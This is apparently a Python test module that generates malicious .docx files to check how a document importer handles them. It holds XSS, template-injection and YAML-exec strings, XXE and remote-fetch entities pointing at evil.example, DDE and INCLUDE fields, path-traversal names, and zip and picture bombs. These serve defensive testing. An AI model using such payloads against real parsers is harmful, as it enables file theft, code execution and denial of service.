"""Files of Word that schools send: what is in them that nobody should obey, what would never end, what must not come out.

Each is imported; what came in is checked and built. `refused`: no case came of it, and it is told; `warned`: a case came of it, and
something is told; `made`: a case came of it, and nothing is told.
"""

import io
import struct
import zipfile

from badparts import appended, bomb, deflated, member, picture_bomb, with_names
from evil import MADE, REFUSED, WARNED, Evil
from evil.pictures import CANARY, SVG, located, saved
from wordparts import NAMES, PACKAGE, SPACES, XML, control, field, p, package, part, r, style, tbl, tc, tr

MARK = CANARY.decode()
WHO = f'w:author="{MARK}" w:date="2026-11-01T08:00:00Z"'
TAG = "<img src=x onerror=alert(1)>"


def form(title: str, *blocks: str, head: str = "", values: tuple[tuple[str, str], ...] = ()) -> str:
    """The blocks of a form whose case has this title; what is no block yet becomes a paragraph."""
    rows = {
        "标题": title,
        "单位": "示例小学（虚构）",
        "地区": "江苏省常州市",
        "主题": "课后服务",
        "批次": "第一批",
        "摘要": "一句话。",
        "未成年人": "没有学生",
    }
    text = "".join(each if each.startswith("<w:") or "<w:p" in each else p(r(each)) for each in blocks or ("这一段说明怎样做。",))
    return head + tbl(*(tr(label, tc(p(r(value)))) for label, value in (rows | dict(values)).items()), columns=2) + p("一、做法") + text


def picture(name: str, wide: object = 1_000_000, high: object = 700_000, key: str = "i") -> str:
    """A paragraph with a picture of this size in English Metric Units."""
    return p(
        f'<w:r><w:drawing><wp:inline><wp:extent cx="{wide}" cy="{high}"/><wp:docPr id="1" name="{name}" descr="{MARK if name == "told" else "图"}"/>'
        f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{key}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
        f"</wp:inline></w:drawing></w:r>"
    )


def shown(data: bytes, ending: str = "png", title: str = "图片", **more: object) -> bytes:
    """A form with one picture."""
    name = f"media/image1.{ending}"
    return package(form(title, "字。", picture("x", **more)), links=[("i", "image", name, False)], media={f"word/{name}": data})


def said(text: str) -> bytes:
    """A form whose document is this XML, with FORM where its blocks may stand."""
    return package(text.replace("FORM", form("另一种编码")))


def around(body: str, before: str = "") -> str:
    return f"{XML}{before}<w:document {NAMES}><w:body>{body}</w:body></w:document>"


def odd_zip(data: bytes, method: int = 0, local: str = "", **more: bytes) -> bytes:
    """The package with its parts packed by another method, another name before its first part, or bytes before or behind it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {entry: archive.read(entry) for entry in archive.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content, method)
        at = archive.getinfo("word/document.xml").header_offset + 30
    made = out.getvalue()
    if local:
        made = made[:at] + local.encode().ljust(17, b"_")[:17] + made[at + 17 :]
    return more.get("before", b"") + made + more.get("behind", b"")


def ole(*names: str) -> dict[str, bytes]:
    return {f"word/{name}": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY for name in names}


LONG = "长" * 30_000
TITLES = {  # what a header of YAML, a path, a page or a sheet might obey
    "tag": (MADE, TAG), "closes": (MADE, "</title><script>alert(1)</script>"), "template": (MADE, "{{7919*7907}}{% include '/etc/passwd' %}"),
    "header": (MADE, "甲\n---\nid: hacked"), "second-line": (MADE, "甲\n标题: 乙"), "yaml-tag": (MADE, "!!python/object/apply:os.system ['id']"),
    "alias": (MADE, "*a"), "anchor": (MADE, "&a 甲"), "map": (MADE, "{a: b}"), "list": (MADE, "[a, b]"), "quote": (WARNED, "\"没有关上'"), "hash": (MADE, "# 甲"),
    "colon": (WARNED, "双减: 探索: "), "block": (MADE, "| 甲"), "percent": (MADE, "%TAG ! x"), "at": (MADE, "@甲`乙`"), "dashes": (MADE, "--- 甲"),
    "climbing": (MADE, "../../../etc/passwd"), "device": (MADE, "CON"), "drive": (MADE, "C:\\Windows\\system32"), "unc": (MADE, "\\\\evil\\share\\甲"),
    "dots": (WARNED, "..."), "signs": (MADE, "<>:|?*"), "long": (WARNED, LONG), "latin": (WARNED, "a" * 5_000), "formula": (MADE, "=cmd|' /C calc'!A0"),
    "override": (WARNED, "甲\u202egpj.exe"), "invisible": (WARNED, "甲\u200b乙\u2060丙"), "emoji": (MADE, "👩‍🏫教学🇨🇳"), "rare": (MADE, "㐀𠀀𫝀𰀀的课"),
    "combining": (WARNED, "课" + "\u0301" * 300), "private-use": (MADE, "甲\ue000乙"), "hidden-id": (MADE, "index"),
}  # fmt: skip
BODIES = {  # paragraphs that Markdown would obey, and must not
    "html": f"{TAG}<script>alert(1)</script>", "heading": "# 大标题", "picture": "![图](file:///etc/passwd)", "script-link": "[去](javascript:alert(1))",
    "reference": "[1]: javascript:alert(1)", "fence": "```", "tilde": "~~~", "rule": "---", "setext": "===", "note": "[^1]: 注", "call": "字[^1]字",
    "table": "| a | b |", "quote": "> 引", "item": "- 甲", "number": "1. 甲", "snippet": '--8<-- "/etc/passwd"', "attribute": '{: onclick="alert(1)" }',
    "abbreviation": "*[字]: 甲", "definition": ": 甲", "admonition": '!!! note "甲"', "toc": "[TOC]", "entity": "&lt;script&gt;&#60;img&#62;",
    "backslash": "\\" * 200, "stars": "*甲**乙***丙", "comment": "<!-- 甲 -->", "instruction": "<?php system('id'); ?>", "jinja": "{{ config }}{% raw %}",
}  # fmt: skip


def nested(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + p("里面") + "</w:tc></w:tr></w:tbl><w:p/>".replace("<w:p/>", "") * depth


def documents() -> dict[str, tuple[str, bytes, str]]:
    """Word files: the verdict, the bytes, and words that are told."""
    plain = package(form("好的"))
    xml = around(form("编码"))
    return {
        "surrogate": (REFUSED, package(form("甲").replace("一句话。", "&#xD800;")), "坏了"),
        "nul": (REFUSED, package(form("甲").replace("一句话。", "&#0;")), "坏了"),
        "noncharacter": (REFUSED, package(form("甲").replace("一句话。", "\uffff")), "坏了"),
        "control": (REFUSED, package(form("甲").replace("一句话。", "\x0b")), "坏了"),
        "no-body": (REFUSED, member(plain, "word/document.xml", xml.replace(SPACES["w"], "x")), "没有正文"),
        "lone-surrogate-bytes": (REFUSED, member(plain, "word/document.xml", xml.encode().replace("一句话。".encode(), b"\xed\xa0\x80")), "坏了"),
        "bad-utf8": (REFUSED, member(plain, "word/document.xml", xml.encode().replace("一句话。".encode(), b"\xc0\xaf")), "坏了"),
        "gbk-xml": (MADE, member(plain, "word/document.xml", xml.replace("UTF-8", "GBK").encode("gbk")), ""),
        "utf-16-xml": (MADE, member(plain, "word/document.xml", xml.replace("UTF-8", "UTF-16").encode("utf-16")), ""),
        "utf-7-xml": ("any", member(plain, "word/document.xml", xml.replace("UTF-8", "UTF-7").encode("utf-7")), ""),
        "outline-nowhere": (MADE, package(form("大纲一", '<w:p><w:pPr><w:outlineLvl/></w:pPr><w:r><w:t>字。</w:t></w:r></w:p>', "字。")), ""),
        "outline-odd": (MADE, package(form("大纲二", '<w:p><w:pPr><w:outlineLvl w:val="²"/></w:pPr><w:r><w:t>字。</w:t></w:r></w:p>', "字。")), ""),
        "outline-long": (MADE, package(form("大纲三", f'<w:p><w:pPr><w:outlineLvl w:val="{"0" * 5000}"/></w:pPr><w:r><w:t>字。</w:t></w:r></w:p>', "字。")), ""),
        "file-named": (WARNED, package(form("附件一", values=(("附件", "见附件"),))), "不收这种文件"),
        "file-missing": (WARNED, package(form("附件二", values=(("附件", "量规.pdf"),))), "找不到附件"),
        "file-outside": (WARNED, package(form("附件三", values=(("附件", "/etc/passwd.pdf"),))), "附件"),
        "xinclude": (MADE, package(form("包含", '<w:p/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', "字。")), ""),
        "stylesheet": (MADE, member(plain, "word/document.xml", around(form("样式表"), '<?xml-stylesheet href="http://evil.example/x.xsl"?>')), ""),
        "parameter-entity": (REFUSED, member(plain, "word/document.xml", xml.replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>')), "DOCTYPE"),
        "late-doctype": (REFUSED, member(plain, "word/document.xml", xml.replace("?>\n", f"?>\n<!--{' ' * 9000}--><!DOCTYPE x []>")), "DOCTYPE"),
        "attributes": ("any", package(form("属性", "<w:p " + " ".join(f'w:a{n}="x"' for n in range(5_000)) + "/>", "字。")), ""),
        "long-attribute": (MADE, package(form("长属性", f'<w:p w:rsidR="{"A" * 1_000_000}"/>', "字。")), ""),
        "namespaces": (MADE, package(form("名字空间", "".join(f'<w:p xmlns:n{n}="u{n}"/>' for n in range(3_000)), "字。")), ""),
        "comments-of-xml": (MADE, package(form("注释", f"<w:p><w:r><w:t>字<!--{MARK}-->。</w:t></w:r></w:p>")), ""),
        "tables-30": (WARNED, package(form("套表", nested(30), "字。")), ""),
        "cells-wide": ("any", package(form("宽表", tbl(tr(*["格"] * 500)))), ""),
        "rows-many": ("any", package(form("长表", tbl(*[tr("甲", "乙")] * 300))), ""),
        "span-huge": (WARNED, package(form("跨列", tbl(tr(tc("甲", props='<w:gridSpan w:val="2000000000"/>'))))), ""),
        "span-bad": (MADE, package(form("坏跨列", tbl(tr(tc("甲", props='<w:gridSpan w:val="-3"/>'), tc("乙", props='<w:gridSpan w:val="x"/>'))))), ""),
        "paragraphs-empty": (MADE, package(form("空段", "<w:p/>" * 4_000, "字。")), ""),
        "paragraphs": (MADE, package(form("多段", p("一段。") * 1_000)), ""),
        "one-paragraph": (MADE, package(form("一段", p("字" * 300_000))), ""),
        "runs": (MADE, package(form("碎字", p(*[r("字", "<w:b/>"), r("词", "<w:i/>")] * 600))), ""),
        "levels": (MADE, package(form("级别", p("甲", props='<w:numPr><w:ilvl w:val="99999"/><w:numId w:val="7"/></w:numPr>'), p("乙", props='<w:outlineLvl w:val="4294967296"/>'))), ""),
        "style-circle": (MADE, package(form("样式", p("字。", style="x")), style("x", "甲", "y") + style("y", "乙", "x")), ""),
        "style-chain": ("any", package(form("样式链", p("字。", style="s0")), "".join(style(f"s{n}", f"甲{n}", f"s{n + 1}") for n in range(3_000))), ""),
        "include-text": (MADE, package(form("域一", p(field('INCLUDETEXT "file:///etc/passwd"', r("域里"))))), ""),
        "include-picture": (MADE, package(form("域二", p(field('INCLUDEPICTURE "http://evil.example/x.png"', r("域里"))))), ""),
        "dde": (MADE, package(form("域三", p(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', r("域里"))))), ""),
        "macro-button": (MADE, package(form("域四", p(field("MACROBUTTON AutoOpen 按这里")))), ""),
        "script-hyperlink": (MADE, package(form("域五", p(field('HYPERLINK "javascript:alert(1)"', r("按这里"))))), ""),
        "link-relation": (MADE, package(form("链接", p('<w:hyperlink r:id="h">' + r("按这里") + "</w:hyperlink>")), links=[("h", "hyperlink", "javascript:alert(1)", True)]), ""),
        "link-file": (MADE, package(form("链接二", p('<w:hyperlink r:id="h">' + r("按这里") + "</w:hyperlink>")), links=[("h", "hyperlink", "file:///etc/passwd", True)]), ""),
        "fields-nested": (MADE, package(form("套域", p("".join('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' for _ in range(3_000))), "字。")), ""),
        "field-ends": (MADE, package(form("域尾", p('<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 500), "字。")), ""),
        "macro": (MADE, package(form("宏"), media={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + CANARY}), ""),
        "ole": (MADE, package(form("对象"), media=ole("embeddings/oleObject1.bin", "activeX/activeX1.bin"), links=[("o", "oleObject", "embeddings/oleObject1.bin", False)]), ""),
        "author": (MADE, package(form("署名"), media={"docProps/core.xml": f'{XML}<c xmlns="{PACKAGE}metadata/core-properties"><creator>{MARK}</creator></c>'.encode()}), ""),
        "deleted": (MADE, package(form("删去", p(r("字。"), f'<w:del w:id="1" {WHO}><w:r><w:delText>{MARK}</w:delText></w:r></w:del>'))), ""),
        "inserted": (MADE, package(form("加进", p(f'<w:ins w:id="1" {WHO}>{r("加进的字。")}</w:ins>'))), ""),
        "moved": (MADE, package(form("移走", p(f'<w:moveFrom w:id="1" {WHO}>{r(MARK)}</w:moveFrom>'), "字。")), ""),
        "hidden": (MADE, package(form("隐去", p(r("字。"), r(MARK, "<w:vanish/>")))), ""),
        "hidden-title": (MADE, package(form("半隐").replace(r("半隐"), r("半隐") + r(MARK, "<w:vanish/>"))), ""),
        "comment": (WARNED, package(form("批注", p(r("字。"), '<w:r><w:commentReference w:id="0"/></w:r>')), parts={"comments.xml": ("comments", part("comments", f'<w:comment w:id="0" {WHO}>{p(MARK)}</w:comment>'))}), ""),
        "header": (WARNED, package(form("页眉"), parts={"header1.xml": ("header", part("hdr", p(MARK)))}), ""),
        "custom-xml": (MADE, package(form("数据"), media={"customXml/item1.xml": f"<x>{MARK}</x>".encode()}), ""),
        "placeholder": (MADE, package(form("占位", control(p(MARK), empty=True), "字。")), ""),
        "alternate": (REFUSED, package(form("备选", "<mc:AlternateContent><mc:Choice Requires=\"w14\">" * 100 + p("里") + "</mc:Choice></mc:AlternateContent>" * 100, "字。")), "层"),
        "note-lost": (MADE, package(form("脚注", p(r("字。"), '<w:r><w:footnoteReference w:id="9"/></w:r>'))), ""),
        "notes": (MADE, package(form("多注", *[p(r("字。"), f'<w:r><w:footnoteReference w:id="{n}"/></w:r>') for n in range(2, 400)]), parts={"footnotes.xml": ("footnotes", part("footnotes", "".join(f'<w:footnote w:id="{n}">{p("注")}</w:footnote>' for n in range(2, 400))))}), ""),
        "note-of-itself": (MADE, package(form("套注", p(r("字。"), '<w:r><w:footnoteReference w:id="2"/></w:r>')), parts={"footnotes.xml": ("footnotes", part("footnotes", '<w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>'))}), ""),
        "picture-huge": (MADE, shown(saved(seed=41), title="巨图", wide=10**18, high=10**18), ""),
        "picture-negative": (MADE, shown(saved(seed=42), title="负图", wide=-5, high="x"), ""),
        "picture-gps": (MADE, shown(located(), "jpg", title="定位图"), ""),
        "picture-svg": (WARNED, shown(SVG, "svg", title="矢量图"), "没有收"),
        "picture-emf": (WARNED, shown(struct.pack("<II", 1, 108) + bytes(32) + b" EMF" + bytes(64), "emf", title="EMF 图"), "没有收"),
        "picture-wmf": (WARNED, shown(b"\xd7\xcd\xc6\x9a" + bytes(60), "wmf", title="WMF 图"), "没有收"),
        "picture-emf-as-png": (WARNED, shown(struct.pack("<II", 1, 108) + bytes(32) + b" EMF" + bytes(64), title="EMF 冒充"), "没有收"),
        "picture-html": ("any", shown(b"<html><script>alert(1)</script>", title="网页冒充"), ""),
        "picture-bomb": (WARNED, shown(picture_bomb(30_000, 30_000), title="图片炸弹"), "像素"),
        "picture-lost": (WARNED, package(form("缺图", picture("x"), "字。"), links=[("i", "image", "media/none.png", False)]), "没有收"),
        "picture-climbs": (WARNED, package(form("爬图", picture("x"), "字。"), links=[("i", "image", "../../../../etc/passwd", False)]), "没有取"),
        "picture-thousand": ("any", package(form("千图", *[picture("x")] * 1_000), links=[("i", "image", "media/i.png", False)], media={"word/media/i.png": saved(seed=43)}), ""),
        "lzma": ("any", odd_zip(package(form("LZMA")), zipfile.ZIP_LZMA), ""),
        "bzip2": ("any", odd_zip(package(form("BZIP2")), zipfile.ZIP_BZIP2), ""),
        "local-name": (REFUSED, odd_zip(package(form("本地名")), zipfile.ZIP_STORED, "word/../../evil.x"), ""),
        "before": (REFUSED, odd_zip(package(form("前面")), before=b"MZ" + bytes(5_000)), ""),
        "behind": (MADE, odd_zip(package(form("后面")), behind=CANARY * 9), ""),
        "empty-zip": (REFUSED, b"PK\x05\x06" + bytes(18), "没有文档"),
        "name-of-nul": ("any", with_names(["word/a\0b.xml"], package(form("零名"))), ""),
        "name-long": (REFUSED, with_names(["word/" + "a" * 60_000 + ".xml"], package(form("长名"))), ""),
        "name-of-device": (MADE, with_names(["word/CON", "word/nul.xml "], package(form("设备名"))), ""),
        "overlapping": (REFUSED, overlapping(), ""),
        "zip-in-zip": (MADE, with_names(["word/embeddings/a.zip"], package(form("套包")), content=bomb(2**24)), ""),
        "no-types": (MADE, member(package(form("没有类型")), "[Content_Types].xml", None), ""),
        "main-elsewhere": (WARNED, member(plain, "_rels/.rels", f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="a" Type="x/officeDocument" Target="../../etc/passwd"/></Relationships>'), ""),
        "relations": (MADE, package(form("多关系"), links=[(f"k{n}", "image", f"media/{n}.png", False) for n in range(1_500)]), ""),
        "strict": (MADE, member(package(form("严格")), "word/document.xml", around(form("严格")).replace(SPACES["w"], "http://purl.oclc.org/ooxml/wordprocessingml/main").encode()), ""),
    }  # fmt: skip


def overlapping() -> bytes:
    """A zip of 3,000 parts that all lie in the same bytes: each unpacks, and all together are 3 GB."""
    packed = deflated(2**20, b" ")
    data = appended(None, [("a.xml", packed, 2**20)])
    size, start = struct.unpack("<II", data[-10:-2])
    entry = data[start : start + size]
    entries = b"".join(entry.replace(b"a.xml", b"%05d" % n) for n in range(3_000))
    return data[:start] + entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 3_000, 3_000, len(entries), start, 0)


def inputs() -> list[Evil]:
    """Titles and paragraphs in forms, then what is wrong with files themselves."""
    found = [
        Evil("docx", f"title-{name}", f"in/docx/t-{name}.docx", package(form(title)), verdict) for name, (verdict, title) in TITLES.items()
    ]
    found += [
        Evil("docx", f"body-{name}", f"in/docx/b-{name}.docx", package(form(f"正文 {name}", "前面。", body, "后面。")), "any")
        for name, body in BODIES.items()
    ]
    return found + [Evil("docx", name, f"in/docx/{name}.docx", data, verdict, words) for name, (verdict, data, words) in documents().items()]
